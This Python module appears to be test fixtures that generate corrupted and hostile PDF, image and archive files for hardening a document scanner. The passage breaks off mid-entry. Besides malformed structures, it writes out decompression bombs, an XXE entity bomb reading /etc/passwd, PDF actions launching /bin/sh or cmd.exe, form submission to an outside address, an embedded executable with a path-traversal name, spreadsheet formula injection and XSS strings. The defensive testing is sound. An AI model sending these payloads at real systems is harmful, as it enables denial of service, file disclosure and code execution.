"""Broken and hostile files, made here and never stored: what a careless scanner, a bad line or an attacker may send.

Each is a name as its sender gives it and a function that returns its bytes; the same bytes every time.
"""

import io
import random
import struct
import zipfile
import zlib
from collections.abc import Callable, Iterator, Sequence
from dataclasses import dataclass
from functools import cache, partial
from itertools import pairwise

import pypdf
from PIL import Image, ImageDraw
from reportlab.pdfgen.canvas import Canvas

LETTER = b"[0 0 612 792]"
_CATALOG = b"<< /Type /Catalog /Pages 2 0 R >>"
_PAGES = b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>"
_FONT = b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>"
_SHOWN = b"BT /F1 11 Tf 72 700 Td (Cash at bank 12,345) Tj ET"


@dataclass(frozen=True, slots=True)
class HostileFile:
    """One file: `title` says what is wrong with it, `name` is what its sender calls it."""

    title: str
    name: str
    content: Callable[[], bytes]


# -- building stones ---------------------------------------------------------------------------------------------------


def pdf(objects: Sequence[bytes], trailer: bytes = b"") -> bytes:
    """Return a PDF of these objects, numbered from 1, of which the first is the catalog."""
    out, places = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n"), []
    for number, each in enumerate(objects, 1):
        places.append(len(out))
        out += b"%d 0 obj\n%b\nendobj\n" % (number, each)
    table = b"".join(b"%010d 00000 n \n" % place for place in places)
    size = len(objects) + 1
    end = b"trailer\n<< /Size %d /Root 1 0 R %b >>\nstartxref\n%d\n%%%%EOF\n" % (size, trailer, len(out))
    return bytes(out) + b"xref\n0 %d\n0000000000 65535 f \n%b" % (size, table) + end


def stream(data: bytes, entries: bytes = b"") -> bytes:
    """Return a stream object."""
    return b"<< /Length %d %b >>\nstream\n%b\nendstream" % (len(data), entries, data)


def packed(data: bytes, entries: bytes = b"") -> bytes:
    """Return a stream object, deflated."""
    return stream(zlib.compress(data, 9), b"/Filter /FlateDecode " + entries)


def page(
    content: bytes = _SHOWN, *, box: bytes = LETTER, resources: bytes = b"", entries: bytes = b"", more: Sequence[bytes] = ()
) -> bytes:
    """Return a PDF of one page; `more` are objects from 6 on."""
    its = b"<< /Type /Page /Parent 2 0 R /MediaBox %b /Contents 4 0 R /Resources << /Font << /F1 5 0 R >> %b >> %b >>"
    return pdf([_CATALOG, _PAGES, its % (box, resources, entries), stream(content), _FONT, *more])


def catalog(entries: bytes, *more: bytes) -> bytes:
    """Return a PDF of one sound page whose catalog has further entries; `more` are objects from 6 on."""
    its = b"<< /Type /Page /Parent 2 0 R /MediaBox %b /Contents 4 0 R /Resources << /Font << /F1 5 0 R >> >> >>" % LETTER
    return pdf([b"<< /Type /Catalog /Pages 2 0 R %b >>" % entries, _PAGES, its, stream(_SHOWN), _FONT, *more])


def drawn_form(*forms: bytes) -> bytes:
    """Return a PDF whose page draws the form object 6, of which `forms` are the first."""
    return page(b"/X Do", resources=b"/XObject << /X 6 0 R >>", more=forms)


def form(content: bytes, draws: int | None = None) -> bytes:
    """Return a form that may draw another object."""
    named = b"/XObject << /X %d 0 R >>" % draws if draws else b""
    return stream(content, b"/Type /XObject /Subtype /Form /BBox %b /Resources << %b >>" % (LETTER, named))


def picture_object(entries: bytes, data: bytes) -> bytes:
    """Return a picture as a page draws it."""
    return stream(data, b"/Type /XObject /Subtype /Image " + entries)


@cache
def sound_pdf(pages: int = 3) -> bytes:
    """Return a PDF that reads well."""
    out = io.BytesIO()
    canvas = Canvas(out, pagesize=(612, 792), invariant=True)
    for number in range(1, pages + 1):
        canvas.drawString(72, 700, f"Balance sheet, page {number}")
        for row in range(20):
            canvas.drawString(72, 660 - 20 * row, f"Item {row}")
            canvas.drawRightString(500, 660 - 20 * row, f"{1_000 + 37 * row:,}")
        canvas.showPage()
    canvas.save()
    return out.getvalue()


@cache
def sound_picture(kind: str) -> bytes:
    """Return a picture of a page as PNG, JPEG or TIFF."""
    picture = Image.new("L", (850, 1100), 255)
    for row in range(10):
        ImageDraw.Draw(picture).text((80, 80 + 60 * row), f"Cash at bank {row}        12,34{row}", fill=0, font_size=28)
    return saved(picture, kind)


def saved(picture: Image.Image, kind: str, **options: object) -> bytes:
    """Return a picture's bytes."""
    out = io.BytesIO()
    picture.save(out, kind, **options)
    return out.getvalue()


def zipped(*entries: tuple[str, bytes], stored: bool = False) -> bytes:
    """Return an archive of files by name."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_STORED if stored else zipfile.ZIP_DEFLATED) as archive:
        for name, data in entries:
            archive.writestr(zipfile.ZipInfo(name), data, compress_type=archive.compression)
    return out.getvalue()


@cache
def deflated(megabytes: int) -> bytes:
    """Return so many million zeros, deflated, in no time: one block of them over and over."""
    deflate, checked = zlib.compressobj(9), 1
    head = deflate.compress(bytes(10**6)) + deflate.flush(zlib.Z_FULL_FLUSH)
    block = deflate.compress(bytes(10**6)) + deflate.flush(zlib.Z_FULL_FLUSH)
    for _ in range(megabytes):
        checked = zlib.adler32(bytes(10**6), checked)
    return head + block * (megabytes - 1) + b"\x03\x00" + struct.pack(">I", checked)


def cut(whole: Callable[[], bytes], share: float, end: bytes = b"") -> bytes:
    """Return the first part of something, with another end."""
    data = whole()
    return data[: int(len(data) * share)] + end


def damaged(whole: Callable[[], bytes], seed: int, times: int) -> bytes:
    """Return something with some of its bytes overwritten."""
    data, chosen = bytearray(whole()), random.Random(seed)
    for _ in range(times):
        data[chosen.randrange(len(data))] = chosen.randrange(256)
    return bytes(data)


# -- broken on the way -------------------------------------------------------------------------------------------------


def broken() -> Iterator[HostileFile]:
    """Yield what bad lines, disks and programs leave behind."""
    yield HostileFile("empty", "empty.pdf", lambda: b"")
    yield HostileFile("one byte", "byte.pdf", lambda: b"%")
    yield HostileFile("header alone", "header.pdf", lambda: b"%PDF-1.7\n")
    yield HostileFile("header and end", "hollow.pdf", lambda: b"%PDF-1.7\n%%EOF\n")
    yield HostileFile("a million zeros", "zeros.pdf", lambda: bytes(10**6))
    yield HostileFile("noise", "noise.pdf", lambda: random.Random(1).randbytes(10**6))
    yield HostileFile("noise in PDF clothes", "noise2.pdf", lambda: b"%PDF-1.4\n" + random.Random(2).randbytes(10**6) + b"\n%%EOF\n")
    for share in (0.02, 0.1, 0.25, 0.4, 0.5, 0.6, 0.75, 0.9, 0.97, 0.995):
        yield HostileFile(f"PDF cut at {share:.1%}", f"cut{share}.pdf", partial(cut, sound_pdf, share))
        yield HostileFile(f"PDF cut at {share:.1%}, end mended", f"mended{share}.pdf", partial(cut, sound_pdf, share, b"\n%%EOF\n"))
    for kind in ("PNG", "JPEG", "TIFF"):
        whole = partial(sound_picture, kind)
        for share in (0.01, 0.3, 0.8, 0.99):
            yield HostileFile(f"{kind} cut at {share:.0%}", f"cut{share}.{kind.lower()}", partial(cut, whole, share))
        for seed in range(3):
            yield HostileFile(f"{kind} damaged, {seed}", f"damaged{seed}.{kind.lower()}", partial(damaged, whole, seed, 5 + 40 * seed))
    for seed in range(10):
        yield HostileFile(f"PDF damaged, {seed}", f"damaged{seed}.pdf", partial(damaged, sound_pdf, seed, 3 + 20 * seed))
    archive = partial(zipped, ("a.pdf", sound_pdf()), ("b.pdf", sound_pdf(1)))
    for share in (0.2, 0.6, 0.95):
        yield HostileFile(f"archive cut at {share:.0%}", f"cut{share}.zip", partial(cut, archive, share))
    for seed in range(3):
        yield HostileFile(f"archive damaged, {seed}", f"damaged{seed}.zip", partial(damaged, archive, seed, 10 + 30 * seed))


# -- PDFs that mislead their reader ------------------------------------------------------------------------------------


def xref_ring() -> bytes:
    """Return a PDF whose table of objects says that an earlier one is itself."""
    data = pdf([_CATALOG, _PAGES, b"<< /Type /Page /Parent 2 0 R /MediaBox %b >>" % LETTER])
    return data.replace(b"/Root 1 0 R", b"/Root 1 0 R /Prev %d" % data.index(b"xref\n"))


def many_pages(count: int) -> bytes:
    """Return a PDF whose one page stands many times in the list of pages."""
    kids = b"3 0 R " * count
    its = b"<< /Type /Page /Parent 2 0 R /MediaBox %b /Contents 4 0 R /Resources << /Font << /F1 5 0 R >> >> >>" % LETTER
    return pdf([_CATALOG, b"<< /Type /Pages /Kids [%b] /Count %d >>" % (kids, count), its, stream(_SHOWN), _FONT])


def page_tree(kids: bytes, count: bytes = b"1", *more: bytes) -> bytes:
    """Return a PDF with this list of pages; object 3 is a page and `more` are objects from 4 on."""
    return pdf(
        [
            _CATALOG,
            b"<< /Type /Pages /Kids %b /Count %b >>" % (kids, count),
            b"<< /Type /Page /Parent 2 0 R /MediaBox %b >>" % LETTER,
            *more,
        ]
    )


def deep_tree(depth: int) -> bytes:
    """Return a PDF whose one page lies at the end of a chain of lists of pages."""
    chain = [b"<< /Type /Pages /Kids [%d 0 R] /Count 1 /Parent %d 0 R >>" % (n + 1, n - 1) for n in range(4, 4 + depth)]
    return page_tree(b"[4 0 R]", b"1", *chain, b"<< /Type /Page /Parent %d 0 R /MediaBox %b >>" % (3 + depth, LETTER))


def structures() -> Iterator[tuple[str, Callable[[], bytes]]]:
    """Yield PDFs whose skeleton runs in rings, lies or has no end."""
    yield "page tree that holds itself", lambda: page_tree(b"[2 0 R]")
    yield "page tree in a ring of two", lambda: page_tree(b"[4 0 R]", b"1", b"<< /Type /Pages /Kids [2 0 R] /Count 1 /Parent 2 0 R >>")
    yield "page tree 20,000 deep", lambda: deep_tree(20_000)
    yield "page count of two billion", lambda: page_tree(b"[3 0 R]", b"2147483647")
    yield "page count below zero", lambda: page_tree(b"[3 0 R]", b"-5")
    yield "no list of pages", lambda: page_tree(b"null")
    yield "pages that are numbers", lambda: page_tree(b"[1 2 3]", b"3")
    yield "catalog missing", lambda: pdf([b"null"])
    yield "catalog is its own pages", lambda: pdf([b"<< /Type /Catalog /Pages 1 0 R /Kids [1 0 R] /Count 1 >>"])
    yield "table of objects in a ring", xref_ring
    yield "table of objects at zero", lambda: sound_pdf(1).replace(b"startxref", b"startxref\n0\n%")
    yield "table of objects beyond the end", lambda: sound_pdf(1).replace(b"startxref\n", b"startxref\n9999999")
    yield "10,000 pages", lambda: many_pages(10_000)
    yield "300 pages that are one", lambda: many_pages(300)
    yield "arrays 100,000 deep", lambda: catalog(b"/X " + b"[" * 100_000 + b"]" * 100_000)
    yield "dictionaries 50,000 deep", lambda: catalog(b"/X " + b"<< /A " * 50_000 + b"1 " + b">>" * 50_000)
    yield "arrays 100,000 deep in the content", lambda: page(b"[" * 100_000 + b"]" * 100_000 + b" TJ " + _SHOWN)
    yield (
        "content refers to itself",
        lambda: pdf([_CATALOG, _PAGES, b"<< /Type /Page /Parent 2 0 R /MediaBox %b /Contents 4 0 R >>" % LETTER, b"4 0 R"]),
    )
    yield "length refers to itself", lambda: page().replace(b"/Length %d" % len(_SHOWN), b"/Length 4 0 R")
    yield "length below zero", lambda: page().replace(b"/Length %d" % len(_SHOWN), b"/Length -1")
    yield "length beyond the file", lambda: page().replace(b"/Length %d" % len(_SHOWN), b"/Length 99999999999")
    yield (
        "object stream that holds itself",
        lambda: catalog(b"/X 7 0 R", stream(b"7 0 << >>", b"/Type /ObjStm /N 1 /First 4 /Extends 6 0 R")),
    )
    yield (
        "outline in a ring",
        lambda: catalog(b"/Outlines 6 0 R", b"<< /First 7 0 R /Last 7 0 R /Count 9 >>", b"<< /Title (x) /Parent 6 0 R /Next 7 0 R >>"),
    )
    yield (
        "form fields in a ring",
        lambda: catalog(b"/AcroForm 6 0 R", b"<< /Fields [7 0 R] >>", b"<< /T (a) /FT /Tx /Kids [7 0 R] /Parent 7 0 R >>"),
    )
    yield "100,000 annotations", lambda: page(entries=b"/Annots [%b]" % (b"<< /Type /Annot /Subtype /Text /Rect [0 0 9 9] >> " * 100_000))
    yield "500 later versions", lambda: sound_pdf(1) + b"".join(b"9 0 obj\n%d\nendobj\n%%%%EOF\n" % n for n in range(500))
    yield (
        "inherited settings in a ring",
        lambda: page_tree(b"[3 0 R]").replace(b"/MediaBox " + LETTER, b"").replace(b"/Count 1", b"/Count 1 /Parent 2 0 R"),
    )


def sizes() -> Iterator[tuple[str, Callable[[], bytes]]]:
    """Yield pages whose size is none."""
    for what, box in (
        ("huge", b"[0 0 1e9 1e9]"),
        ("200 inches square", b"[0 0 14400 14400]"),
        ("200,000 by 2", b"[0 0 200000 2]"),
        ("tiny", b"[0 0 0.001 0.001]"),
        ("without width", b"[0 0 0 792]"),
        ("turned over", b"[612 792 0 0]"),
        ("negative", b"[-99999 -99999 -99000 -99000]"),
        ("no number", b"[0 0 NaN Infinity]"),
        ("300 digits", b"[0 0 " + b"9" * 300 + b" 792]"),
        ("three numbers", b"[0 0 612]"),
        ("text", b"(wide)"),
        ("its own page", b"3 0 R"),
    ):
        yield f"page size {what}", partial(page, box=box)
    for what, entries in (
        ("turned by 45 degrees", b"/Rotate 45"),
        ("turned by a billion", b"/Rotate 1000000080"),
        ("units of a mile", b"/UserUnit 4561920"),
        ("cropped to nothing", b"/CropBox [900 900 901 901]"),
        ("cropped to no numbers", b"/CropBox [nan nan nan nan]"),
    ):
        yield f"page {what}", partial(page, entries=entries)


def fragments(count: int) -> bytes:
    """Return a page of so many words, each drawn by itself, all over it."""
    shown = b"".join(b"1 0 0 1 %d %d Tm (%d) Tj " % (10 + 7 * n % 590, 10 + n // 84 % 770, n) for n in range(count))
    return page(b"BT /F1 2 Tf " + shown + b"ET")


def forms_within(depth: int, times: int) -> bytes:
    """Return a page that draws a form that draws a form so many times, and so on."""
    return drawn_form(*(form(b"/X Do " * times, 7 + n) for n in range(depth)), form(b"0 0 9 9 re f"))


def contents() -> Iterator[tuple[str, Callable[[], bytes]]]:
    """Yield pages whose content has no measure."""
    tall = b"BT /F1 11 Tf %b 72 700 Tm (Cash 1) Tj ET"
    yield "100,000 fragments", lambda: fragments(100_000)
    yield "a million fragments", lambda: fragments(1_000_000)
    yield "a word of a million letters", lambda: page(b"BT /F1 1 Tf 9 9 Td (" + b"w" * 10**6 + b") Tj ET")
    yield "numbers of 300 digits", lambda: page(b"BT /F1 1 Tf 9 700 Td (Cash " + b"9" * 300 + b"  (" + b"8" * 300 + b")) Tj ET")
    yield "20,000 numbers on one line", lambda: page(b"BT /F1 1 Tf 9 700 Td (" + b"Cash 12,345 " * 20_000 + b") Tj ET")
    yield "place of no number", lambda: page(tall % b"nan nan nan nan")
    yield "place beyond all numbers", lambda: page(tall % b"1e999 0 0 -1e999")
    yield "place of 300 digits", lambda: page(tall % (b"9" * 300 + b" 0 0 1"))
    yield "place squeezed to nothing", lambda: page(tall % b"0 0 0 0")
    yield "letters a million points tall", lambda: page(_SHOWN.replace(b"11 Tf", b"1000000 Tf"))
    yield "letters without size", lambda: page(_SHOWN.replace(b"11 Tf", b"0 Tf"))
    yield "a million saved states", lambda: page(b"q " * 10**6 + _SHOWN)
    yield "a million lines", lambda: page(b"0 0 m 9 9 l S " * 10**6 + _SHOWN)
    yield "operators without operands", lambda: page(b"Tm Td Tj TJ re cm Do Tf gs sh d0 BI ID EI " * 1000 + _SHOWN)
    yield "operands without operators", lambda: page(b"1 " * 10**6 + _SHOWN)
    yield "picture in the content without end", lambda: page(b"BI /W 9 /H 9 /BPC 8 /CS /G ID " + b"x" * 10**6)
    yield "text without end", lambda: page(b"BT /F1 9 Tf (" + b"(" * 10**5)
    yield "form that draws itself", lambda: drawn_form(form(b"/X Do", 6))
    yield "forms that draw each other", lambda: drawn_form(form(b"/X Do", 7), form(b"/X Do", 6))
    yield "forms ten times ten, nine deep", lambda: forms_within(9, 10)
    yield "forms 500 deep", lambda: forms_within(500, 1)
    tile = b"/Type /Pattern /PatternType 1 /PaintType 1 /TilingType 1 /BBox [0 0 9 9] /XStep 0.0001 /YStep 0.0001 /Resources << >>"
    painted = b"/Pattern cs /P scn 0 0 612 792 re f"
    yield "tiles of a ten-thousandth", lambda: page(painted, resources=b"/Pattern << /P 6 0 R >>", more=[stream(b"0 0 1 1 re f", tile)])
    own = tile.replace(b"<< >>", b"<< /Pattern << /P 6 0 R >> >>").replace(b"0.0001", b"10")
    yield "tile that paints itself", lambda: page(painted, resources=b"/Pattern << /P 6 0 R >>", more=[stream(painted, own)])
    yield (
        "formulas as text",
        lambda: page(
            b"BT /F1 9 Tf 72 700 Td (=HYPERLINK\\(\"x\"\\) 1) Tj 0 -20 Td (@SUM\\(1\\) 2) Tj 0 -20 Td (+cmd|' /C x'!A0 3) Tj ET"
        ),
    )
    yield (
        "script as text",
        lambda: page(b'BT /F1 9 Tf 72 700 Td (<script>alert\\(1\\)</script> Cash "><img src=x onerror=alert\\(1\\)> 12,345) Tj ET'),
    )
    yield "words of zeros and controls", lambda: page(b"BT /F1 9 Tf 72 700 Td (Cash\\000bank\\001\\033[31m\\177 12,345) Tj ET")


def fonts() -> Iterator[tuple[str, Callable[[], bytes]]]:
    """Yield pages whose fonts are none."""

    def lettered(font: bytes, *more: bytes) -> bytes:
        return page(more=more).replace(_FONT, font)

    def mapped(cmap: bytes) -> bytes:
        return lettered(_FONT[:-2] + b"/ToUnicode 6 0 R >>", stream(cmap))

    described = b"<< /Type /Font /Subtype /TrueType /BaseFont /A /FirstChar 0 /LastChar 255 /Widths [%b] /FontDescriptor 6 0 R >>"
    yield (
        "font that is noise",
        lambda: lettered(
            described % (b"500 " * 256),
            b"<< /Type /FontDescriptor /FontName /A /Flags 4 /FontFile2 7 0 R >>",
            stream(random.Random(3).randbytes(50_000)),
        ),
    )
    yield "font with endless widths", lambda: lettered(described % (b"9" * 300 + b" ") * 3, b"<< /Type /FontDescriptor /Ascent nan >>")
    yield "font that is null", lambda: lettered(b"null")
    yield (
        "font that is its own descendant",
        lambda: lettered(b"<< /Type /Font /Subtype /Type0 /Encoding /Identity-H /DescendantFonts [5 0 R] >>"),
    )
    yield (
        "font with a million ranges",
        lambda: lettered(
            b"<< /Type /Font /Subtype /Type0 /BaseFont /A /Encoding /Identity-H /DescendantFonts [6 0 R] >>",
            b"<< /Type /Font /Subtype /CIDFontType2 /BaseFont /A /CIDSystemInfo << >> /W [0 2000000000 500] >>",
        ),
    )
    drawing = b"<< /Type /Font /Subtype /Type3 /FontBBox [0 0 9 9] /FontMatrix [1 0 0 1 0 0] /FirstChar 67 /LastChar 67 /Widths [9] %b"
    yield (
        "letter that draws itself",
        lambda: lettered(
            drawing % b"/Encoding << /Differences [67 /C] >> /CharProcs << /C 6 0 R >> /Resources << /Font << /F1 5 0 R >> >> >>",
            stream(_SHOWN),
        ),
    )
    yield "letters mapped to a range of all", lambda: mapped(b"1 beginbfrange <0000> <FFFFFFFF> <0000> endbfrange")
    yield "letters mapped to half characters", lambda: mapped(b"1 beginbfrange <00> <FF> <D800> endbfrange")
    yield (
        "letters mapped to zeros",
        lambda: mapped(b"1 begincodespacerange <00> <FF> endcodespacerange 1 beginbfrange <20> <7F> [<0000>] endbfrange"),
    )
    yield "letters mapped by a map that uses itself", lambda: mapped(b"/Self usecmap " * 1000)
    yield "letters mapped to texts of 10,000", lambda: mapped(b"1 beginbfchar <43> <" + b"0041" * 10_000 + b"> endbfchar")


def bombs() -> Iterator[tuple[str, Callable[[], bytes]]]:
    """Yield small PDFs that are large inside."""

    def picture(entries: bytes, data: bytes = b"\0" * 99) -> bytes:
        return page(b"600 0 0 700 0 0 cm /X Do", resources=b"/XObject << /X 6 0 R >>", more=[picture_object(entries, data)])

    def content(data: bytes, entries: bytes) -> bytes:
        return page(more=[stream(data, entries)]).replace(b"/Contents 4 0 R", b"/Contents 6 0 R")

    def twice(megabytes: int) -> bytes:
        return zlib.compress(deflated(megabytes), 9)

    yield "content of 2 GB, deflated twice", lambda: content(twice(2000), b"/Filter [/FlateDecode /FlateDecode]")
    yield "content of 300 MB, deflated twice", lambda: content(twice(300), b"/Filter [/FlateDecode /FlateDecode]")
    yield "content through 1,000 filters", lambda: content(b"x", b"/Filter [%b]" % (b"/ASCIIHexDecode " * 1000))
    yield "content of noise, deflated", lambda: content(random.Random(4).randbytes(9999), b"/Filter /FlateDecode")
    yield (
        "content with a line of a billion",
        lambda: content(zlib.compress(b"x" * 99), b"/Filter /FlateDecode /DecodeParms << /Predictor 15 /Columns 1000000000 /Colors 4 >>"),
    )
    for method in (
        b"LZWDecode",
        b"RunLengthDecode",
        b"ASCII85Decode",
        b"CCITTFaxDecode",
        b"JBIG2Decode",
        b"DCTDecode",
        b"JPXDecode",
        b"Crypt",
        b"None",
    ):
        yield (
            f"picture of noise for {method.decode()}",
            partial(
                picture,
                b"/Width 900 /Height 900 /BitsPerComponent 8 /ColorSpace /DeviceGray /Filter /" + method,
                random.Random(5).randbytes(5000),
            ),
        )
    yield "picture of 10 billion pixels", lambda: picture(b"/Width 100000 /Height 100000 /BitsPerComponent 8 /ColorSpace /DeviceRGB")
    yield (
        "picture of 400 million pixels, deflated",
        lambda: picture(
            b"/Width 20000 /Height 20000 /BitsPerComponent 8 /ColorSpace /DeviceGray /Filter [/FlateDecode /FlateDecode]", twice(400)
        ),
    )
    yield "picture below zero", lambda: picture(b"/Width -5 /Height -5 /BitsPerComponent 8 /ColorSpace /DeviceGray")
    yield "picture of 999 bits", lambda: picture(b"/Width 9 /Height 9 /BitsPerComponent 999 /ColorSpace /DeviceGray")
    yield "picture that masks itself", lambda: picture(b"/Width 9 /Height 9 /BitsPerComponent 8 /ColorSpace /DeviceGray /SMask 6 0 R")
    yield (
        "colours in a ring",
        lambda: page(
            b"/X Do",
            resources=b"/XObject << /X 6 0 R >>",
            more=[picture_object(b"/Width 9 /Height 9 /BitsPerComponent 8 /ColorSpace 7 0 R", bytes(81)), b"[/Indexed 7 0 R 1 <00>]"],
        ),
    )
    yield (
        "colours by a function of 100 inputs",
        lambda: page(
            b"/S sh " + _SHOWN,
            resources=b"/Shading << /S << /ShadingType 1 /ColorSpace /DeviceGray /Function 6 0 R >> >>",
            more=[stream(b"x", b"/FunctionType 0 /Domain [%b] /Range [0 1] /Size [%b] /BitsPerSample 8" % (b"0 1 " * 100, b"9 " * 100))],
        ),
    )


def encrypted(password: str, owner: str) -> bytes:
    """Return a PDF that asks for a password, or for none where it is empty."""
    writer = pypdf.PdfWriter(clone_from=io.BytesIO(sound_pdf(1)))
    writer.encrypt(password, owner, algorithm="RC4-128")
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def active() -> Iterator[tuple[str, Callable[[], bytes]]]:
    """Yield PDFs that want to do something, or carry something else."""
    for what, action in (
        ("runs a script", b"/S /JavaScript /JS (while\\(true\\){app.alert\\('x'\\)})"),
        ("starts a program", b"/S /Launch /F (/bin/sh) /Win << /F (cmd.exe) /P (/c calc) >>"),
        ("opens a page of the network", b"/S /URI /URI (http://192.0.2.1/x)"),
        ("opens another file", b"/S /GoToR /F (file:///etc/passwd) /D [0 /Fit]"),
        ("sends its form away", b"/S /SubmitForm /F (http://192.0.2.1/x) /Flags 4"),
        ("acts in a ring", b"/S /Named /N /NextPage /Next 6 0 R"),
    ):
        yield f"PDF that {what}", partial(catalog, b"/OpenAction 6 0 R", b"<< /Type /Action %b >>" % action)
    xml = b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a "%b"><!ENTITY b "&a;&a;&a;"><!ENTITY c SYSTEM "file:///etc/passwd">]><x>&b;&c;</x>'
    yield "PDF whose form is XML with entities", lambda: catalog(b"/AcroForm << /XFA 6 0 R /Fields [] >>", stream(xml % (b"lol" * 999)))
    yield (
        "PDF whose description is XML with entities",
        lambda: catalog(b"/Metadata 6 0 R", stream(xml % b"x", b"/Type /Metadata /Subtype /XML")),
    )
    embedded = b"/Names << /EmbeddedFiles << /Names [(x.exe) << /Type /Filespec /F (../../x.exe) /EF << /F 6 0 R >> >>] >> >>"
    yield "PDF with a program inside", lambda: catalog(embedded, stream(b"MZ" + bytes(9999), b"/Type /EmbeddedFile"))
    yield (
        "picture kept in another file",
        lambda: page(
            b"/X Do", resources=b"/XObject << /X 6 0 R >>", more=[picture_object(b"/Width 9 /Height 9 /F (file:///etc/passwd)", b"")]
        ),
    )
    yield "PDF with a password", lambda: encrypted("secret", "owner")
    yield "PDF that forbids copying", lambda: encrypted("", "owner")
    yield (
        "PDF encrypted by nothing known",
        lambda: sound_pdf(1).replace(b"/Root", b"/Encrypt << /Filter /Own /V 99 /R 99 /O (x) /U (y) /P -1 >> /Root"),
    )
    yield "PDF and archive at once", lambda: sound_pdf(1) + zipped(("x.pdf", sound_pdf(1)))
    yield "PDF and web page at once", lambda: b"<html><script>alert(1)</script>\n" + sound_pdf(1) + b"</html>"
    yield "PDF after a kilobyte of noise", lambda: random.Random(6).randbytes(1000) + sound_pdf(1)
    yield "PDF of version 9.9", lambda: sound_pdf(1).replace(b"%PDF-1.3", b"%PDF-9.9")


# -- pictures ----------------------------------------------------------------------------------------------------------


def chunk(name: bytes, data: bytes) -> bytes:
    """Return a chunk of a PNG."""
    return struct.pack(">I", len(data)) + name + data + struct.pack(">I", zlib.crc32(name + data))


def png(width: int, height: int, rows: bytes, *more: bytes, depth: int = 8) -> bytes:
    """Return a grey PNG with this deflated content, and more chunks before it."""
    head = chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, depth, 0, 0, 0, 0))
    return b"\x89PNG\r\n\x1a\n" + head + b"".join(more) + chunk(b"IDAT", rows) + chunk(b"IEND", b"")


def tiff(entries: Sequence[tuple[int, int, int, int]], following: int = 0, data: bytes = b"") -> bytes:
    """Return a TIFF of one directory at 8, of (tag, type, count, value), and the place of the next one."""
    table = b"".join(struct.pack("<HHII", *entry) for entry in entries)
    return b"II*\x00" + struct.pack("<IH", 8, len(entries)) + table + struct.pack("<I", following) + data


def tiff_page(width: int = 9, height: int = 9, *more: tuple[int, int, int, int]) -> list[tuple[int, int, int, int]]:
    """Return the entries of a grey page whose pixels would lie at 300."""
    size = min(width * height, 2**32 - 1)
    plain = [(256, 4, 1, width), (257, 4, 1, height), (258, 3, 1, 8), (259, 3, 1, 1), (262, 3, 1, 1), (273, 4, 1, 300), (277, 3, 1, 1)]
    return sorted([*plain, (278, 4, 1, height), (279, 4, 1, size), *more])


def frames(count: int) -> bytes:
    """Return a TIFF of so many white pages."""
    first = 308  # after the first table and the pixels of all
    places = [8, *(first + 9 + n * 120 for n in range(count - 1)), 0]
    tables = [
        struct.pack("<H", 9) + b"".join(struct.pack("<HHII", *entry) for entry in tiff_page()) + struct.pack("<I", following)
        for following in places[1:]
    ]
    head = (b"II*\x00" + struct.pack("<I", 8) + tables[0]).ljust(300, b"\0") + b"\xff" * 17
    return head + b"".join(table.ljust(120, b"\0") for table in tables[1:])


def pictures() -> Iterator[HostileFile]:
    """Yield pictures that are larger than they look, or none."""
    jpeg = partial(sound_picture, "JPEG")
    grey = zlib.compress(b"\0" * 90)
    made: tuple[tuple[str, str, Callable[[], bytes]], ...] = (
        ("3.6 billion pixels", "png", lambda: png(60_000, 60_000, zlib.compress(bytes(60_001 * 900), 9))),
        ("59 million pixels", "png", lambda: saved(Image.new("1", (7_680, 7_680), 1), "PNG")),
        (
            "59 million pixels of noise",
            "png",
            lambda: saved(Image.frombytes("1", (7_680, 7_680), random.Random(7).randbytes(7_372_800)), "PNG"),
        ),
        ("no pixels", "png", lambda: png(0, 0, grey)),
        ("two billion wide", "png", lambda: png(2**31 - 1, 1, grey)),
        ("a million wide and one high", "png", lambda: png(10**6, 1, zlib.compress(bytes(10**6 + 1)))),
        ("99 bits deep", "png", lambda: png(9, 9, grey, depth=99)),
        ("a chunk beyond the end", "png", lambda: png(9, 9, grey).replace(b"\0\0\0\x0bIDAT", b"\x7f\xff\xff\xffIDAT")),
        ("a text that unpacks to 500 MB", "png", lambda: png(9, 9, grey, chunk(b"zTXt", b"x\0\0" + deflated(500)))),
        ("a profile that unpacks to 500 MB", "png", lambda: png(9, 9, grey, chunk(b"iCCP", b"x\0\0" + deflated(500)))),
        ("a million empty chunks", "png", lambda: png(9, 9, grey, chunk(b"tEXt", b"a\0b") * 10**6)),
        ("a wrong checksum", "png", lambda: png(9, 9, grey)[:-20] + b"\0" * 20),
        ("one pixel", "png", lambda: png(1, 1, zlib.compress(b"\0\0"))),
        ("a resolution of zero", "png", lambda: png(9, 9, grey, chunk(b"pHYs", struct.pack(">IIB", 0, 0, 1)))),
        ("65,535 square by its head", "jpg", lambda: jpeg().replace(struct.pack(">HH", 1100, 850), b"\xff\xff\xff\xff")),
        ("no width by its head", "jpg", lambda: jpeg().replace(struct.pack(">HH", 1100, 850), b"\0\0\0\0")),
        ("5,000 comments", "jpg", lambda: jpeg()[:2] + b"\xff\xfe\x00\x04ab" * 5_000 + jpeg()[2:]),
        (
            "orientation that is none",
            "jpg",
            lambda: jpeg()[:2] + b"\xff\xe1\x00\x22Exif\0\0II*\0\x08\0\0\0\x01\0\x12\x01\x03\0\x01\0\0\0\x63\0\0\0\0\0\0\0" + jpeg()[2:],
        ),
        ("EXIF of noise", "jpg", lambda: jpeg()[:2] + b"\xff\xe1\x01\x02Exif\0\0II*\0" + random.Random(8).randbytes(246) + jpeg()[2:]),
        ("a head and no picture", "jpg", lambda: b"\xff\xd8\xff\xd9"),
        ("10,000 pages", "tif", lambda: frames(10_000)),
        ("1,900 pages", "tif", lambda: frames(1_900)),
        ("a directory that follows itself", "tif", lambda: tiff(tiff_page(), following=8, data=bytes(999))),
        ("a directory beyond the end", "tif", lambda: b"II*\x00" + struct.pack("<I", 2**31)),
        ("16 billion pixels", "tif", lambda: tiff(tiff_page(2**17, 2**17), data=bytes(999))),
        ("an entry of four billion values", "tif", lambda: tiff(tiff_page(9, 9, (270, 2, 2**32 - 1, 8)), data=bytes(999))),
        (
            "a resolution of nothing by nothing",
            "tif",
            lambda: tiff(tiff_page(9, 9, (282, 5, 1, 250), (283, 5, 1, 250), (296, 3, 1, 2)), data=bytes(999)),
        ),
        ("pixels beyond the end", "tif", lambda: tiff(tiff_page(99, 99))),
        (
            "tiles of a billion",
